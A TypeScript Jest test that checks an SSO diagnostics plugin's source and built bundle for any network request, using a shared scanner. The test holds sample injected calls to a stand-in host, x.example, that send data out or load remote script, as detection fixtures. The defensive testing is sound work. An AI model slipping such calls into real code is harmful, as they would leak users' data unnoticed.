import * as fs from 'fs';
import * as path from 'path';

// The same scanner .ci/run runs on the bundle it builds.
const { networkCalls } = require('../../scripts/no-network.js') as {
  networkCalls: (text: string) => { what: string; context: string }[];
};

const ROOT = path.join(__dirname, '..', '..');
const BUNDLE = path.join(ROOT, 'build', 'plugin-sso-diagnostics.js');

function files(dir: string): string[] {
  return fs
    .readdirSync(dir, { withFileTypes: true })
    .flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : [path.join(dir, e.name)]));
}

function newest(dir: string): number {
  return Math.max(...files(dir).map((f) => fs.statSync(f).mtimeMs));
}

describe('nothing the plugin ships makes a network request', () => {
  it('src/ uses no network API (fetch, XMLHttpRequest, WebSocket, EventSource, sendBeacon, new Image, import())', () => {
    // src/cli is the Node command line (its --twilio and check-idp <https-URL> do reach the network); lint
    // keeps it out of the plugin, and the built-bundle check below would catch it there.
    const shipped = files(path.join(ROOT, 'src')).filter(
      (f) => !f.startsWith(path.join(ROOT, 'src', 'cli') + path.sep),
    );
    const offenders = shipped.flatMap((f) =>
      networkCalls(fs.readFileSync(f, 'utf8')).map((call) => `${path.relative(ROOT, f)}: ${call.what}`),
    );
    expect(offenders).toEqual([]);
  });

  it('src/ui renders no raw HTML and no image element', () => {
    const offenders = files(path.join(ROOT, 'src/ui')).filter((f) =>
      /dangerouslySetInnerHTML|<img\b/.test(fs.readFileSync(f, 'utf8')),
    );
    expect(offenders).toEqual([]);
  });

  it('finds a call injected into minified code, in every form the scanner knows', () => {
    const minified = 'function a(e){return e&&e.b}var c=a({b:1});';
    const injected = [
      'fetch("https://x.example/"+c)',
      'window.fetch(u)',
      'self["fetch"](u)',
      'var r=new XMLHttpRequest;r.open("POST",u)',
      'new WebSocket("wss://x.example")',
      'new EventSource(u)',
      'navigator.sendBeacon(u,d)',
      'var i=new Image;i.src="https://x.example/p.gif?"+c',
      'import("https://x.example/m.js")',
      'importScripts(u)',
      'var s=document.createElement("script");s.src=u',
      'new Worker(u)',
    ];
    for (const call of injected) {
      expect(networkCalls(`${minified}${call};${minified}`).length).toBeGreaterThan(0);
    }
    // Look-alikes that are not network calls.
    expect(networkCalls('prefetchData(x);var importance=1;o.socket=imported(2)')).toEqual([]);
  });

  const built = fs.existsSync(BUNDLE) && fs.statSync(BUNDLE).mtimeMs >= newest(path.join(ROOT, 'src'));
  // `npm run build` writes the bundle; .ci/run scans the one it builds with scripts/no-network.js.
  (built ? it : it.skip)('the built bundle (with React, Paste and emotion in it) uses no network API', () => {
    expect(networkCalls(fs.readFileSync(BUNDLE, 'utf8')).map((call) => `${call.what}: …${call.context}…`)).toEqual([]);
  });
});
